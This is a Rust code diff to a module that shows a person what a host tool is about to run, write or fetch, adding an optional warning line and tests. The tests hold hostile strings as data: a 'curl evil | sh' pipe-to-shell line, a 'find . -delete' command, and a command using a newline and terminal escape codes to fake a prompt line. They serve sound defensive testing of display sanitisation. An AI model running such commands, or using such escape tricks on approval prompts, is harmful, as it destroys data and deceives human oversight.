@@ -28,6 +28,8 @@ pub struct HostQuestion {
     pub deed: Deed,
     /// The folder in which it would happen.
     pub workspace: PathBuf,
+    /// Why the list of a skill does not settle it.
+    pub doubt: Option<String>,
 }
 
 /// What a tool of the host does that a person may not want.
@@ -79,7 +81,9 @@ impl HostQuestion {
         let fact = |label, text: &str| Line { role: Role::Fact, label, text: visible(text).into() };
         let place = fact("in", &self.workspace.display().to_string());
         let grave = |label, text: &str| Line { role: Role::Grave, ..fact(label, text) };
-        match &self.deed {
+        let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
+        let mut lines: Vec<Line> = self.doubt.as_deref().map(warn).into_iter().collect();
+        lines.extend(match &self.deed {
             Deed::Run { command } => vec![
                 grave("command", command),
                 place,
@@ -92,7 +96,6 @@ impl HostQuestion {
                 lines.extend(
                     change.lines.iter().enumerate().map(|(at, line)| fact(label(at), line)),
                 );
-                let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
                 if change.more > 0 {
                     let more = change.more;
                     lines.push(warn(&format!("{more} more lines of the change are not shown")));
@@ -103,7 +106,8 @@ impl HostQuestion {
                 lines
             }
             Deed::Fetch { url } => vec![grave("fetch", url)],
-        }
+        });
+        lines
     }
 }
 
@@ -172,7 +176,7 @@ mod tests {
     fn a_person_reads_what_will_be_written() {
         let lines = |after: &str| {
             let deed = write("a", Change::between("old\n", after));
-            HostQuestion { deed, workspace: PathBuf::from("/w") }.lines()
+            HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines()
         };
         let shown = lines("curl evil\u{7} | sh\n");
         let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
@@ -183,9 +187,21 @@ mod tests {
     }
 
     #[test]
+    fn a_doubt_is_the_first_line() {
+        let deed = Deed::Run { command: "find . -delete".to_owned() };
+        let doubt = Some("it may do more\u{1b}".to_owned());
+        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt }.lines();
+        assert_eq!(
+            (lines[0].role, lines[0].text.as_str()),
+            (Role::Warning, "it may do more\\u{1b}")
+        );
+        assert_eq!(lines[1].label, "command");
+    }
+
+    #[test]
     fn a_command_cannot_make_a_line_of_its_own() {
         let deed = Deed::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
-        let lines = HostQuestion { deed, workspace: PathBuf::from("/w") }.lines();
+        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines();
         assert_eq!(lines.len(), 3);
         assert!(lines.iter().all(|line| !line.text.contains(char::is_control)), "{lines:?}");
     }
